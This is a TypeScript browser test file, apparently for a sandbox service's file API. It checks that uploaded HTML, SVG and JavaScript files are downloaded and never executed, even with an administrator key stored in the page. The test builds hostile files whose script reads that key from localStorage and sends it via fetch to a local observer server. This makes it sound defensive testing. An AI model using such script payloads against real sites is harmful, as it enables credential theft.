import { readFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Api } from "./api.ts";
import { findNoBrowser, openBrowser } from "./chromium.ts";
import { openTestServer, type TestServer } from "./server.ts";

const noBrowser = findNoBrowser();
const waitMs = 30_000;

/** Says that it runs, and what it could take with it. */
const script = (observer: string, name: string) =>
  `fetch("${observer}/ran?by=${name}&key=" + localStorage.getItem("key"), { mode: "no-cors" }); alert("${name}");`;

/** What a stranger's code would leave for somebody to open, and the type that a careless server would give it. */
function hostileFiles(observer: string): Record<string, { type: string; text: string }> {
  const code = (name: string) => script(observer, name);
  return {
    "page.html": { type: "text/html", text: `<!doctype html><title>page</title><script>${code("html")}</script>` },
    "image.svg": {
      type: "image/svg+xml",
      text: `<svg xmlns="http://www.w3.org/2000/svg"><script>${code("svg").replace("&", "&amp;")}</script></svg>`,
    },
    "code.js": { type: "text/javascript", text: code("js") },
  };
}

/** A server of the test's own: what it serves runs, and whatever runs anywhere tells it. */
class Observer {
  readonly heard: string[] = [];
  readonly #server: Server;

  constructor() {
    this.#server = createServer((request, response) => {
      const url = new URL(request.url ?? "/", this.base);
      if (url.pathname === "/ran") this.heard.push(`${url.searchParams.get("by")} ${url.searchParams.get("key")}`);
      const file = hostileFiles(this.base)[url.pathname.slice(1)];
      response.writeHead(200, { "content-type": file?.type ?? "text/html" }).end(file?.text ?? "<title>empty</title>");
    });
  }

  open = () => new Promise<void>((done) => this.#server.listen(0, "127.0.0.1", done));

  get base(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  /** All that ran before now has been heard: this request comes after it, from the same page or another. */
  async settle(context: BrowserContext): Promise<void> {
    const before = this.heard.length;
    const page = await context.newPage();
    await page.goto(`${this.base}/empty`);
    await page.evaluate(() => fetch("/ran?by=fence"));
    await page.close();
    await expect.poll(() => this.heard.slice(before).some((by) => by.startsWith("fence"))).toBe(true);
  }

  get ran(): string[] {
    return this.heard.filter((by) => !by.startsWith("fence"));
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((done) => this.#server.close(done));
  }
}

/** Puts an element that loads the address into the page; done when the browser is. */
const embed = (page: Page, tag: "script" | "iframe" | "object", address: string) =>
  page.evaluate(`new Promise((done) => {
    const element = document.createElement("${tag}");
    element.setAttribute("${tag === "object" ? "data" : "src"}", "${address}");
    element.onload = element.onerror = () => done();
    setTimeout(done, 1000); // a frame whose content is saved, or refused, may say nothing
    document.body.append(element);
  })`);

/** The answers are the same on every engine (origin.test.ts); what a browser makes of them is looked at on one. */
describe.skipIf(noBrowser !== undefined)(`files of a sandbox in a browser${noBrowser ? `: ${noBrowser}` : ""}`, () => {
  let server: TestServer;
  let admin: Api;
  let at: string;
  let observer: Observer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let alerts: string[];
  beforeAll(async () => {
    observer = new Observer();
    await observer.open();
    [server, browser] = await Promise.all([openTestServer("container"), openBrowser()]);
    admin = await server.as("admin");
    at = `/api/v1/sandboxes/${await admin.create()}`;
    for (const [name, { text }] of Object.entries(hostileFiles(observer.base)))
      await admin.put(`${at}/files/${name}`, text);
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await observer?.[Symbol.asyncDispose]();
    await server[Symbol.asyncDispose]();
  });
  beforeEach(async () => {
    observer.heard.length = 0;
    alerts = [];
    await context?.close();
    context = await browser.newContext({ acceptDownloads: true });
    context.setDefaultTimeout(waitMs);
    page = await context.newPage();
    page.on("dialog", (dialog) => {
      alerts.push(dialog.message());
      void dialog.dismiss();
    });
    // The best a stranger could hope for: the administrator's key lies in the storage of the API's origin.
    await page.goto(`${server.base}/docs`);
    const key = admin.headers["x-api-key"] ?? "";
    await page.evaluate((key) => localStorage.setItem("key", key), key);
    expect(await page.evaluate(() => localStorage.getItem("key"))).toBe(key);
  });

  const names = Object.keys(hostileFiles(""));
  const sign = async (path: string): Promise<string> =>
    (await admin.post(`${at}/signed-urls`, { method: "GET", path })).json.url;

  /** Opens the address as a link would, and holds what arrives against the file. */
  const saves = async (address: string, name: string) => {
    const download = page.waitForEvent("download");
    await page.goto(address).catch((error) => expect(String(error)).toMatch(/Download is starting/));
    const saved = await download;
    expect(saved.suggestedFilename()).toBe(name);
    expect(await readFile(await saved.path(), "utf8")).toBe(hostileFiles(observer.base)[name]?.text);
    expect(page.url()).not.toContain(name);
  };

  it.each(names)(
    "[IDN-07] %s of a sandbox is saved and not run, with the administrator's key at hand",
    async (name) => {
      await page.setExtraHTTPHeaders(admin.headers);
      await saves(`${server.base}${at}/files/${name}`, name);
      await observer.settle(context);
      expect([observer.ran, alerts]).toEqual([[], []]);
    },
  );

  it.each(names)("[IDN-07] %s behind a signed URL is saved and not run", async (name) => {
    await saves(`${server.base}${await sign(name)}`, name);
    await observer.settle(context);
    expect([observer.ran, alerts]).toEqual([[], []]);
  });

  it("[IDN-07] a page of this origin, or of another, cannot be made to run one of them", async () => {
    for (const from of [`${server.base}/docs`, `${observer.base}/empty`])
      for (const [tag, name] of [
        ["script", "code.js"],
        ["iframe", "page.html"],
        ["object", "image.svg"],
      ] as const) {
        await page.goto(from);
        await embed(page, tag, `${server.base}${await sign(name)}`);
      }
    await observer.settle(context);
    expect([observer.ran, alerts]).toEqual([[], []]);
  });

  it("runs each of them where a server lets it", async () => {
    const ran = async (by: string) => {
      await expect.poll(() => observer.ran, { timeout: waitMs }).toEqual([`${by} null`]);
      await expect.poll(() => alerts, { timeout: waitMs }).toEqual([by]);
      observer.heard.length = alerts.length = 0;
    };
    await page.goto(`${observer.base}/page.html`);
    await ran("html");
    await page.goto(`${observer.base}/image.svg`);
    await ran("svg");
    await page.goto(`${observer.base}/empty`);
    await embed(page, "script", `${observer.base}/code.js`);
    await ran("js");
    await embed(page, "iframe", `${observer.base}/page.html`);
    await ran("html");
    await embed(page, "object", `${observer.base}/image.svg`);
    await ran("svg");
  });
});
